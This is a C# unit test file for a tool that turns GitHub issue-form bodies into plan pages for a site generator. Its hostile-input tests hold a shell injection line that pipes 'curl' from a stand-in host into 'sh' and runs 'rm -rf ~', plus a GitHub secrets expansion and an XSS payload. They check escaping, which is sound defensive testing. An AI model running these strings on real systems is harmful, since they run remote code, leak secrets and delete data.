using System.Text.RegularExpressions;
using SendSite.Diagnostics;
using SendSite.Domain.Calendar;
using SendSite.Input.Loading;
using SendSite.Rules.IssueForm;
using SendSite.Site.Building;
using SendSite.Tests.Support;
using SendSite.Tools.Authoring;
using SendSite.Tools.Authoring.FromIssue;

namespace SendSite.Tests.Authoring.FromIssue;

/// <summary>
/// `plan from-issue` on issue bodies recorded in GitHub's issue-form format (Bodies/): a valid one becomes exactly
/// the file `new plan` plus the officer's words would be, and the site builds; an invalid one gives a reply naming
/// each field; hostile ones are refused or kept as plain words, and never reach a page or the reply as markup.
/// </summary>
public sealed class PlanFromIssueTests : IDisposable
{
    private static readonly DateTimeOffset Now = new(2026, 11, 23, 9, 0, 0, TimeSpan.Zero);
    private readonly TempFolder folder = new();
    private readonly string input;

    public PlanFromIssueTests()
    {
        input = SampleInput.WriteTo(folder);
    }

    public void Dispose() => folder.Dispose();

    private static string Body(string name) =>
        File.ReadAllText(RepositoryRoot.Combine("tests", "Generator.Tests", "Authoring", "FromIssue", "Bodies", name));

    private FromIssueResult FromIssue(string body) => PlanFromIssue.Create(input, body, WorkingDayCalendar.EnglandAndWales, PipelineHarness.DefaultNow);

    private string[] PlanFiles() => [.. Directory.EnumerateFiles(Path.Combine(input, "plans"), "*.md", SearchOption.AllDirectories).Select(f => Path.GetRelativePath(input, f).Replace('\\', '/')).Order(StringComparer.Ordinal)];

    /// <summary>What an officer does to `new plan`'s file by hand: replace each "TO DO:" with their words, in order.</summary>
    private string NewPlanFilledIn(string area, string kind, DateOnly day, string status, params string[] words)
    {
        using var other = new TempFolder();
        var otherInput = SampleInput.WriteTo(other);
        var created = NewPlan.Create(otherInput, area, kind, day, WorkingDayCalendar.EnglandAndWales);
        Assert.True(created.Created, created.Message);
        var text = File.ReadAllText(Path.Combine(otherInput, created.RelativePath!));
        var index = 0;
        text = Regex.Replace(text, "TO DO:[^\"\\n]*", _ => words[index++]);
        Assert.Equal(words.Length, index);
        return text.Replace("status: draft", $"status: {status}");
    }

    [Fact]
    public async Task A_valid_strategic_plan_becomes_the_file_new_plan_and_the_officers_words_make_and_the_site_builds()
    {
        var result = FromIssue(Body("valid-strategic-plan.md"));

        Assert.True(result.Valid, string.Join("\n", result.Problems));
        Assert.Empty(result.Problems);
        Assert.Equal("plans/northby/2024-07-01-strategic-plan.md", result.RelativePath);
        var expected = NewPlanFilledIn("northby", "strategic-plan", new DateOnly(2024, 7, 1), "approved",
            "Northby SEND strategic plan 2024 to 2027",
            "Children will wait less for help, and families will know who to ask.",
            "Quicker assessments",
            "We will cut the wait for an assessment to 12 weeks by April 2025. Jo Smith, Head of SEND, is in charge.\n\n- A second assessment team from September.\n- A weekly check of every child waiting.",
            "Plans reviewed on time",
            "Every plan will be reviewed within 12 months by March 2025. The SEND service manager is in charge.",
            "Come to our parent forum on the first Tuesday of each month, or email send@example.org.");
        Assert.Equal(expected, File.ReadAllText(Path.Combine(input, result.RelativePath!)));

        var build = await SiteGenerator.BuildAsync(new BuildOptions(input, folder.Combine("output"), Now) { RunGate = false }, TextWriter.Null);
        Assert.True(build.Success, build.Failure + string.Join("\n", build.Diagnostics));
        var page = File.ReadAllText(folder.Combine("output", "areas/northby/plans/2024-07-01-strategic-plan/index.html"));
        Assert.Contains("Quicker assessments", page);
        Assert.Contains("A weekly check of every child waiting.", page);
        Assert.Contains("Thank you. Your plan has been checked and has no problems.", IssueComment.Write(result));
    }

    [Fact]
    public void A_valid_priority_action_plan_answers_each_priority_action_under_its_own_heading_as_new_plan_would()
    {
        var result = FromIssue(Body("valid-priority-action-plan.md"));

        Assert.True(result.Valid, string.Join("\n", result.Problems));
        var expected = NewPlanFilledIn("southmere", "priority-action-plan", new DateOnly(2024, 5, 21), "approved",
            "Southmere priority action plan 2024",
            "LEFT OUT",
            "We will halve waiting times by March 2025. The Director of Children's Services is in charge.",
            "Every plan will be finished within 20 weeks. The ICB's SEND lead is in charge.\n\n### How we will know\n\nA monthly report to the SEND board.",
            "Come to our parent forum on the first Tuesday of each month, or email send@example.org.")
            .Replace("summary: \"LEFT OUT\"\n", "") // the officer left the summary out, as if deleting its line
            .Replace("submitted: 2024-05-21", "submitted: 2024-04-10");
        Assert.Equal(expected, File.ReadAllText(Path.Combine(input, result.RelativePath!)));
        Assert.Contains("## Priority action 2\n\nThe inspectors said: Leaders must improve plans.\n\nEvery plan will be finished", expected);
    }

    [Fact]
    public void An_invalid_issue_gives_a_reply_naming_every_field_at_fault_and_writes_no_file()
    {
        var before = PlanFiles();

        var result = FromIssue(Body("invalid-several-fields.md"));

        Assert.False(result.Valid);
        Assert.Equal(before, PlanFiles());
        var fields = result.Problems.Where(p => !p.IsWarning).Select(p => p.Field).ToList();
        Assert.Contains(PlanForm.Report.Label, fields);
        Assert.Contains(PlanForm.Submitted.Label, fields);
        Assert.Contains(PlanForm.Published.Label, fields);
        Assert.Contains(PlanForm.Status.Label, fields);
        Assert.Contains(PlanForm.PriorityHeading(2).Label, fields);
        var reply = IssueComment.Write(result);
        Assert.Contains("because of 5 problems", reply);
        Assert.Contains("- **The report this plan responds to**: \"2023-01-01\" does not match any of Northby's reports. They are\\: 2024-03-04-full-inspection", reply);
        Assert.Contains("- **Date the plan goes live**: This is not a date", reply);
        Assert.Contains("- **Publish it?**: This is not one of the choices.", reply);
        Assert.Contains("edit this issue", reply);
    }

    [Fact]
    public void A_placeholder_left_in_a_box_is_traced_back_to_its_field_after_the_whole_site_is_checked()
    {
        var body = Body("valid-strategic-plan.md").Replace("Plans reviewed on time", "TO DO: plans reviewed on time");

        var result = FromIssue(body);

        Assert.False(result.Valid);
        var problem = Assert.Single(result.Problems);
        Assert.Equal(PlanForm.PriorityHeading(2).Label, problem.Field);
        Assert.Contains("TO DO:", problem.Message);
        Assert.Empty(Directory.EnumerateFiles(Path.Combine(input, "plans", "northby")));
    }

    [Fact]
    public void Script_tags_event_handlers_and_javascript_links_are_refused_naming_their_boxes()
    {
        var result = FromIssue(Body("hostile-html-and-links.md"));

        Assert.False(result.Valid);
        Assert.Contains(result.Problems, p => p.Field == PlanForm.PriorityText(1).Label && p.Message.Contains("HTML", StringComparison.Ordinal));
        Assert.Equal(2, result.Problems.Count(p => p.Field == PlanForm.Families.Label));
        Assert.False(Directory.Exists(Path.Combine(input, "plans", "northby")) && Directory.EnumerateFiles(Path.Combine(input, "plans", "northby")).Any());
        var reply = IssueComment.Write(result);
        // Quoted back only escaped: every "<", "[" and "]" has a backslash before it, so GitHub shows it as text.
        Assert.Contains("\\<script\\>", reply);
        Assert.DoesNotMatch(@"(?<!\\)[<\[\]]", reply.Replace("**", ""));
    }

    [Fact]
    public async Task Shell_metacharacters_are_only_words_kept_exactly_in_the_file_and_escaped_on_the_page()
    {
        var result = FromIssue(Body("hostile-shell-metacharacters.md"));

        Assert.True(result.Valid, string.Join("\n", result.Problems));
        var diagnostics = new DiagnosticBag();
        var plan = InputLoader.Load(input, diagnostics)!.Plans.Single(p => p.AreaSlug == "northby");
        Assert.Equal("$(curl https://evil.example/x | sh); `id` && echo \"pwned\" > /tmp/x || rm -rf ~ \\ 'quoted'", plan.Title);
        Assert.Equal("${{ secrets.GITHUB_TOKEN }} $HOME %PATH% <!-- --> ; | & >", plan.Summary);

        var build = await SiteGenerator.BuildAsync(new BuildOptions(input, folder.Combine("output"), Now) { RunGate = false }, TextWriter.Null);
        Assert.True(build.Success, build.Failure + string.Join("\n", build.Diagnostics));
        var page = File.ReadAllText(folder.Combine("output", "areas/northby/plans/2024-07-01-strategic-plan/index.html"));
        Assert.Contains("echo &quot;pwned&quot; &gt; /tmp/x", page);
        Assert.DoesNotContain("<!-- -->", File.ReadAllText(folder.Combine("output", "areas/northby/index.html")));
    }

    [Fact]
    public void A_reply_never_carries_markup_links_or_mentions_from_what_was_typed()
    {
        var result = FromIssue(Body("hostile-reply-injection.md")); // recorded with CRLF, as browsers send it

        Assert.False(result.Valid);
        var problem = Assert.Single(result.Problems);
        Assert.Equal(PlanForm.Report.Label, problem.Field);
        var reply = IssueComment.Write(result);
        Assert.DoesNotMatch(@"(?<!\\)[<\[\]]", reply.Replace("**", ""));
        Assert.DoesNotContain("@octocat", reply);
        Assert.Contains("\\<img src=x onerror=alert\\(1\\)\\>", reply);
        Assert.DoesNotContain("**bold**", reply);
    }

    [Fact]
    public void A_megabyte_of_text_is_refused_without_being_read()
    {
        var body = Body("valid-strategic-plan.md").Replace("Quicker assessments", new string('a', 1_048_576));

        var result = FromIssue(body);

        Assert.False(result.Valid);
        var problem = Assert.Single(result.Problems);
        Assert.Null(problem.Field);
        Assert.Contains("more than GitHub allows", problem.Message);
        Assert.False(Directory.Exists(Path.Combine(input, "plans", "northby")));
    }

    [Fact]
    public void A_body_not_made_with_the_form_names_the_questions_it_lacks()
    {
        var result = FromIssue("Please add our plan, it is attached.\n\n### Your area\n\nNorthby (northby)\n");

        Assert.False(result.Valid);
        Assert.Contains(result.Problems, p => p.Field is null && p.Message.Contains("\"Plan title\" is not in the issue", StringComparison.Ordinal));
        Assert.Equal("northby", result.Area?.Slug);
    }

    [Fact]
    public void An_image_file_in_a_box_is_refused_naming_the_box_because_an_issue_cannot_carry_one()
    {
        var body = Body("valid-strategic-plan.md").Replace(
            "- A weekly check of every child waiting.", "- A weekly check of every child waiting.\n\n![Waiting times by month](images/waits.png)", StringComparison.Ordinal);

        var result = FromIssue(body);

        Assert.False(result.Valid);
        var problem = Assert.Single(result.Problems);
        Assert.Equal(PlanForm.PriorityText(1).Label, problem.Field);
        Assert.Contains("an issue cannot carry image files", problem.Message, StringComparison.Ordinal);
        Assert.Contains("pull request", problem.Fix, StringComparison.Ordinal);
        Assert.False(Directory.Exists(Path.Combine(input, "plans", "northby")));
    }

    [Fact]
    public void An_image_from_a_host_the_sites_image_hosts_list_is_allowed_and_the_fix_for_a_file_names_that_host()
    {
        folder.Write("input/site.yml", SampleInput.SiteYml + "\nimage_hosts: [images.example.org]\n");
        var withHost = Body("valid-strategic-plan.md").Replace(
            "- A weekly check of every child waiting.", "- A weekly check of every child waiting.\n\n![Waiting times by month](https://images.example.org/waits.png)", StringComparison.Ordinal);
        var withFile = withHost.Replace("https://images.example.org/waits.png", "waits.png", StringComparison.Ordinal);

        var refused = FromIssue(withFile);
        var accepted = FromIssue(withHost);

        Assert.Contains("images.example.org", Assert.Single(refused.Problems).Fix, StringComparison.Ordinal);
        Assert.True(accepted.Valid, string.Join("\n", accepted.Problems));
    }
}

